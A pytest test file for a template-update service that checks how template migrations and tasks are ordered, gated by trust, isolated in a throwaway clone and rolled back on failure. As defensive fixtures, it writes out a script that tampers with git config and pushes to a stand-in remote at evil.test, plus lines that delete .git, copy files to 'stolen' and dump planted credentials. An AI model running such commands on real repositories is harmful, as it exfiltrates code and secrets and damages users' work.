"""Migrations and tasks: only when trusted, only on a throwaway clone, all or nothing."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from .conftest import Create
from .stories import ANSWERS, QUESTIONS, Script, Template, leftovers, numbered, settings

TOP, BOTTOM = {2: "the template's"}, {11: "ours"}


def migrations(*steps: str | dict[str, Any]) -> str:
    return settings(migrations=list(steps))


def before(command: str, **more: str) -> dict[str, str]:
    return {"command": command, "when": "{{ _stage == 'before' }}", **more}


def after(command: str, **more: str) -> dict[str, str]:
    return {"command": command, "when": "{{ _stage == 'after' }}", **more}


def test_before_and_after_run_in_their_order(template: Template, create: Create) -> None:
    log = "echo $STAGE-{} >> log.txt"
    template.release("v1", {"a": "1\n"})
    template.release(
        "v2",
        {
            "a": "2\n",
            "copier.yml": migrations(
                after(log.format(1)), before(log.format(2)), before(log.format(3)), log.format(4)
            ),
        },
    )
    pay = create("v1", "--trust")
    assert not pay.has("log.txt")
    assert pay.update("v2", "--trust").code == 0
    assert pay.read("log.txt").split() == ["before-2", "before-3", "after-1", "after-4"]


def test_only_migrations_between_the_two_releases_run(template: Template, create: Create) -> None:
    template.release("v1.0", {"a": "1\n"})
    template.release("v2.0", {"a": "2\n"})
    steps = [
        {"version": version, "command": f"echo {version} $VERSION_CURRENT >> log.txt"}
        for version in ("v0.9", "v1.0", "v1.1", "v2.0", "v2.1", "v3.0", "v3.1")
    ]
    template.release("v3.0", {"a": "3\n", "copier.yml": migrations(*steps)})
    pay = create("v1.0", "--trust")
    assert pay.update("v3.0", "--trust").code == 0
    assert pay.read("log.txt").splitlines() == [
        f"{v} {v}" for v in ("v1.1", "v2.0", "v2.1", "v3.0")
    ]


def test_a_migration_knows_where_it_is(template: Template, create: Create) -> None:
    template.release("v1", {"a": "1\n"})
    template.release("v2", {"a": "2\n"})
    step = {"version": "v2", "command": "env | sort > env.txt"}
    template.release("v3", {"a": "3\n", "copier.yml": migrations(step)})
    pay = create("v1", "--trust")
    assert pay.update("v3", "--trust").code == 0
    assert set(pay.read("env.txt").splitlines()) >= {
        "STAGE=after",
        "VERSION_FROM=v1",
        "VERSION_TO=v3",
        "VERSION_CURRENT=v2",
        "VERSION_PEP440_FROM=1",
        "VERSION_PEP440_TO=3",
        "VERSION_PEP440_CURRENT=2",
    }


def test_a_migration_is_rendered(template: Template, create: Create) -> None:
    words = "{{ name }} {{ _stage }} {{ _version_from }} {{ _version_to }} {{ _copier_phase }}"
    script = "{{ _copier_python }} {{ _copier_conf.src_path / 'migrate.py' }}"
    template.release("v1", {"a": "1\n"})
    template.release(
        "v2",
        {
            "copier.yml": migrations(
                f"echo '{words}' > log.txt",
                {"command": ["sh", "-c", "echo list {{ name }} > list.txt"]},
                {"command": "echo never > never.txt", "when": "{{ name == 'other' }}"},
                {"command": "pwd > where.txt", "working_directory": "d"},
                script,
            ),
            "migrate.py": "from pathlib import Path\nPath('by-python').write_text('yes')\n",
            "d/a": "2\n",
        },
    )
    pay = create("v1", "--trust")
    assert pay.update("v2", "--trust").code == 0
    assert pay.read("log.txt") == "pay after v1 v2 migrate\n"
    assert pay.read("list.txt") == "list pay\n"
    assert pay.read("by-python") == "yes"
    assert pay.has("d/where.txt")
    assert not pay.has("never.txt")


def test_a_before_migration_moves_ours_before_the_merge(template: Template, create: Create) -> None:
    template.release("v1", {"old.py": numbered(30)})
    template.release(
        "v2",
        {
            "old.py": None,
            "new.py": "".join(f"quite another line {n}\n" for n in range(9)) + numbered(30),
            "copier.yml": migrations(before("mkdir -p keep && cp old.py keep/mine.py")),
        },
    )
    pay = create("v1", "--trust")
    pay.commit({"old.py": numbered(30, {20: "ours"})})
    assert pay.update("v2", "--trust").code in (0, 7)
    assert pay.read("keep/mine.py") == numbered(30, {20: "ours"})


def test_a_before_migration_carries_an_edit_to_a_new_place(
    template: Template, create: Create
) -> None:
    ci = "tests:\n  script:\n  - ./test.sh\n"
    template.release("v1", {".ci.yml": ci})
    template.release(
        "v2",
        {
            ".ci.yml": "include: .ci/main.yml\n",
            ".ci/main.yml": ci.replace("test.sh", "test.sh --slow"),
            "copier.yml": migrations(before("mkdir -p .ci && cp .ci.yml .ci/main.yml")),
        },
    )
    pay = create("v1", "--trust")
    pay.commit({".ci.yml": ci + "pages:\n  script:\n  - ./deploy.sh\n"})
    run = pay.update("v2", "--trust")
    assert run.code == 7
    assert "  - ./deploy.sh" in pay.read(".ci.yml").splitlines()
    main = pay.read(".ci/main.yml").splitlines()
    assert {"  - ./deploy.sh", "  - ./test.sh --slow"} <= set(main)


def test_an_after_migration_works_on_the_merged_tree(template: Template, create: Create) -> None:
    template.release("v1", {"a.txt": numbered(), "gone": "1\n"})
    template.release(
        "v2",
        {
            "a.txt": numbered(changed=TOP),
            "copier.yml": migrations(after("sort a.txt > sorted.txt && rm gone && chmod +x a.txt")),
        },
    )
    pay = create("v1", "--trust")
    pay.commit({"a.txt": numbered(changed=BOTTOM)})
    run = pay.update("v2", "--trust")
    assert run.code == 0
    assert pay.read("sorted.txt").split("\n").count("the template's") == 1
    assert pay.read("sorted.txt").split("\n").count("ours") == 1
    assert not pay.has("gone")
    assert pay.staged_mode("a.txt") == "100755"
    assert set(pay.status().values()) <= {"M ", "A ", "D "}
    assert run.outcomes["sorted.txt"] == "added"


def test_a_before_migration_may_change_the_answers(template: Template, create: Create) -> None:
    questions = "name: {type: str}\nwho: {type: str, default: world}\n"
    template.release("v1", {"copier.yml": questions, "a.jinja": "hello {{ who }}\n"})
    change = before(f"sed -i s/world/moon/ {ANSWERS}")
    template.release("v2", {"copier.yml": questions + migrations(change).removeprefix(QUESTIONS)})
    pay = create("v1", "--trust")
    assert pay.update("v2", "--trust").code == 0
    assert (pay.read("a"), pay.answers["who"]) == ("hello moon\n", "moon")


def test_a_migration_of_a_release_already_taken_does_not_run_again(
    template: Template, create: Create
) -> None:
    template.release("v1", {"a": "1\n"})
    template.release("v2", {"copier.yml": migrations("echo x >> log.txt")})
    pay = create("v1", "--trust")
    assert pay.update("v2", "--trust").code == 0
    with pay.untouched():
        assert pay.update("v2", "--trust").code == 0
    pay.commit(message="take v2")
    with pay.untouched():
        assert pay.update("v2", "--trust").json["status"] == "up-to-date"
    assert pay.read("log.txt") == "x\n"


def test_what_a_migration_ignores_or_litters_is_not_brought_back(
    template: Template, create: Create
) -> None:
    template.release("v1", {".gitignore": "*.cache\n", "a": "1\n"})
    template.release("v2", {"a": "2\n", "copier.yml": migrations("touch x.cache; touch real")})
    pay = create("v1", "--trust")
    assert pay.update("v2", "--trust").code == 0
    assert pay.has("real")
    assert "x.cache" not in pay.tracked()


# --- trust -------------------------------------------------------------------------------------


def test_migrations_of_an_untrusted_template_are_left_out_and_named(
    template: Template, create: Create
) -> None:
    template.release("v1", {"a": "1\n"})
    template.release("v2", {"a": "2\n", "copier.yml": migrations("touch pwned")})
    pay = create()
    run = pay.update("v2")
    assert run.code == 0
    assert "migration" in run.everything
    assert (pay.read("a"), pay.has("pwned")) == ("2\n", False)


def test_tasks_of_an_untrusted_template_are_left_out_and_named(
    template: Template, create: Create
) -> None:
    template.release("v1", {"a": "1\n"})
    template.release("v2", {"a": "2\n", "copier.yml": settings(tasks=["touch pwned"])})
    pay = create()
    run = pay.update("v2")
    assert run.code == 0
    assert "task" in run.everything
    assert (pay.read("a"), pay.has("pwned")) == ("2\n", False)


def test_a_service_cannot_name_itself_trusted(template: Template, create: Create) -> None:
    template.release("v1", {"a": "1\n"})
    template.release("v2", {"a": "2\n", "copier.yml": migrations("touch pwned")})
    pay = create()
    pay.commit({"idp-platform.yaml": f"version: 1\ntemplates: [{{url: '{template.path}'}}]\n"})
    pay.commit({".copier-settings.yml": f"trust: ['{template.path}']\n"})
    pay.update("v2")
    assert not pay.has("pwned")


# --- failing -----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "config",
    [
        migrations(before("echo what went wrong; exit 3")),
        migrations(after("echo what went wrong >&2; exit 3")),
        settings(tasks=["echo half > a; echo half > half", "echo what went wrong; exit 3"]),
        migrations("echo half > a && rm -rf b && echo what went wrong && false"),
    ],
)
def test_a_failure_changes_nothing_and_shows_the_output(
    template: Template, create: Create, config: str
) -> None:
    template.release("v1", {"a": "1\n", "b": "1\n"})
    template.release("v2", {"a": "2\n", "copier.yml": config})
    pay = create("v1", "--trust")
    pay.commit({"b": "ours\n"})
    pay.write({"notes": "untracked\n"})
    with pay.untouched():
        run = pay.update("v2", "--trust")
    assert run.code == 6
    assert "what went wrong" in run.everything
    assert leftovers(pay.repo) == []


def test_a_program_that_is_not_there_is_a_failure(template: Template, create: Create) -> None:
    template.release("v1", {"a": "1\n"})
    template.release("v2", {"copier.yml": migrations({"command": ["no-such-program-idp"]})})
    pay = create("v1", "--trust")
    with pay.untouched():
        run = pay.update("v2", "--trust")
    assert run.code in (3, 6)
    assert "no-such-program-idp" in run.everything


# --- the clone ---------------------------------------------------------------------------------

MISCHIEF = """\
#!/bin/sh
git config user.name evil
git config --local core.hooksPath /tmp/evil
git branch evil
git tag evil
git commit --allow-empty -qm evil
git stash -u -q
git checkout -q -b evil2
git remote add evil https://evil.test
git remote -v | while read name url rest; do git push -q "$url" HEAD:refs/heads/pushed; done
echo x > made.txt
"""


def test_a_migration_cannot_reach_the_repository(template: Template, create: Create) -> None:
    template.release("v1", {"a": "1\n", "mischief.sh": Script(MISCHIEF)})
    template.release("v2", {"a": "2\n", "copier.yml": migrations(after("./mischief.sh || true"))})
    pay = create("v1", "--trust")
    pay.write({"notes": "untracked\n"})
    kept = ("HEAD", "ref", "config")
    was = {k: v for k, v in pay.fingerprint().items() if k.startswith(kept)}
    assert pay.update("v2", "--trust").code == 0
    assert {k: v for k, v in pay.fingerprint().items() if k.startswith(kept)} == was
    assert pay.git("stash", "list") == ""
    assert (pay.read("notes"), pay.read("a")) == ("untracked\n", "2\n")


def test_a_migration_that_deletes_its_repository_hurts_nobody(
    template: Template, create: Create
) -> None:
    template.release("v1", {"a": "1\n"})
    template.release("v2", {"a": "2\n", "copier.yml": migrations("rm -rf .git && touch made")})
    pay = create("v1", "--trust")
    was = pay.fingerprint()
    run = pay.update("v2", "--trust")
    assert run.code in (0, 6)
    if run.code:
        assert pay.fingerprint() == was
    else:
        assert pay.has("made")


def test_a_migration_does_not_run_in_the_service_itself(template: Template, create: Create) -> None:
    template.release("v1", {"a": "1\n"})
    template.release("v2", {"copier.yml": migrations("pwd > where; cat notes > stolen || true")})
    pay = create("v1", "--trust")
    pay.write({"notes": "untracked\n"})
    assert pay.update("v2", "--trust").code == 0
    where = Path(pay.read("where").strip())
    assert where != pay.path
    assert not where.exists()
    assert pay.read("stolen") == ""


def test_a_migration_sees_no_credentials(
    template: Template, create: Create, monkeypatch: pytest.MonkeyPatch, home: Path
) -> None:
    for name in ("AWS_SECRET_ACCESS_KEY", "GITHUB_TOKEN", "VAULT_TOKEN", "IDP_TOKEN", "DB_URL"):
        monkeypatch.setenv(name, "hunter2")
    monkeypatch.setenv("SSH_AUTH_SOCK", "/tmp/hunter2")
    template.release("v1", {"a": "1\n"})
    template.release("v2", {"copier.yml": migrations("env > env.txt")})
    pay = create("v1", "--trust")
    assert pay.update("v2", "--trust").code == 0
    assert "hunter2" not in pay.read("env.txt")
    assert f"HOME={home}" not in pay.read("env.txt").splitlines()


def test_a_migration_gets_no_terminal_to_wait_for(template: Template, create: Create) -> None:
    template.release("v1", {"a": "1\n"})
    template.release("v2", {"copier.yml": migrations("cat > typed.txt; echo done > done.txt")})
    pay = create("v1", "--trust")
    assert pay.update("v2", "--trust").code == 0
    assert (pay.read("typed.txt"), pay.read("done.txt")) == ("", "done\n")


def test_a_migrations_words_do_not_spoil_the_json(template: Template, create: Create) -> None:
    template.release("v1", {"a": "1\n"})
    template.release("v2", {"copier.yml": migrations("echo chatter; echo more >&2")})
    run = create("v1", "--trust").update("v2", "--trust")
    assert run.json["status"] == "updated"


# --- with conflicts, dry, and beside other work ------------------------------------------------


def test_nothing_runs_after_the_merge_while_conflicts_stand(
    template: Template, create: Create
) -> None:
    template.release("v1", {"a": numbered()})
    config = migrations(after("touch after-ran")) + "_tasks: ['touch task-ran']\n"
    template.release("v2", {"a": numbered(changed={5: "theirs"}), "copier.yml": config})
    pay = create("v1", "--trust")
    pay.commit({"a": numbered(changed={5: "ours"})})
    run = pay.update("v2", "--trust")
    assert run.code == 7
    assert set(pay.index_stages()) == {"a"}
    assert not pay.has("after-ran")


def test_a_dry_run_leaves_no_trace_of_a_migration(
    template: Template, create: Create, tmp_path: Path
) -> None:
    template.release("v1", {"a": "1\n"})
    template.release("v2", {"a": "2\n", "copier.yml": migrations("touch made")})
    pay = create("v1", "--trust")
    with pay.untouched():
        assert pay.update("v2", "--trust", "--dry-run").code == 0


def test_work_in_progress_elsewhere_survives_a_migration(
    template: Template, create: Create
) -> None:
    template.release("v1", {"a": "1\n", "b": "1\n", "c": "1\n"})
    template.release("v2", {"a": "2\n", "copier.yml": migrations("cp a made")})
    pay = create("v1", "--trust")
    pay.write({"b": "staged\n", "c": "not staged\n", "d": "untracked\n"})
    pay.git("add", "b")
    assert pay.update("v2", "--trust").code == 0
    assert pay.status() == {
        ANSWERS: "M ",
        "a": "M ",
        "b": "M ",
        "c": " M",
        "d": "??",
        "made": "A ",
    }
    assert [pay.read(n) for n in "abcd"] == ["2\n", "staged\n", "not staged\n", "untracked\n"]


@pytest.mark.parametrize("step", [before("echo m > b"), after("echo m > b"), after("rm -f b")])
def test_a_migration_that_touches_work_in_progress_is_refused(
    template: Template, create: Create, step: dict[str, str]
) -> None:
    template.release("v1", {"a": "1\n", "b": "1\n"})
    template.release("v2", {"a": "2\n", "copier.yml": migrations(step)})
    pay = create("v1", "--trust")
    pay.write({"b": "not committed\n"})
    with pay.untouched():
        run = pay.update("v2", "--trust")
    assert run.code == 5
    assert "b" in run.err


def test_a_migration_that_makes_what_lies_there_untracked_is_refused(
    template: Template, create: Create
) -> None:
    template.release("v1", {"a": "1\n"})
    template.release("v2", {"copier.yml": migrations("echo theirs > notes")})
    pay = create("v1", "--trust")
    pay.write({"notes": "mine\n"})
    with pay.untouched():
        assert pay.update("v2", "--trust").code == 5


def test_migrations_in_a_sub_folder_run_there(template: Template, create: Create) -> None:
    template.release("v1", {"a": "1\n"})
    template.release("v2", {"a": "2\n", "copier.yml": migrations("echo m > made; ls -a > seen")})
    mono = create("v1", "--trust", name="mono")
    mono.commit({"svc/a": "1\n", f"svc/{ANSWERS}": mono.read(ANSWERS), "other": "x\n"})
    service = type(mono)(mono.path / "svc", mono.path)
    assert service.update("v2", "--trust").code == 0
    assert service.read("made") == "m\n"
    assert "a" in service.read("seen").split()
    assert not mono.has("made")
    assert (mono.read("a"), service.read("a")) == ("1\n", "2\n")


def test_versions_run_in_order_with_edits(template: Template, create: Create) -> None:
    template.release("v1.0.0", {"README.txt": numbered(), "copier.yml": settings()})
    stages = [
        {"version": v, "when": f"{{{{ _stage == '{s}' }}}}", "command": f"touch {s}-{v}"}
        for v in ("v1.0.0", "v1.1.0", "v2.0.0")
        for s in ("before", "after")
    ]
    template.release("v1.1.0", {"copier.yml": migrations(*stages)})
    template.release("v2.0.0", {"README.txt": numbered(changed=TOP)})
    pay = create("v1.0.0", "--trust")
    pay.commit({"README.txt": numbered(changed=BOTTOM)})
    assert pay.update("v2.0.0", "--trust").code == 0
    assert pay.read("README.txt") == numbered(changed=TOP | BOTTOM)
    ran = {path.name for path in pay.path.glob("*-v*")}
    assert ran == {f"{stage}-{v}" for v in ("v1.1.0", "v2.0.0") for stage in ("before", "after")}
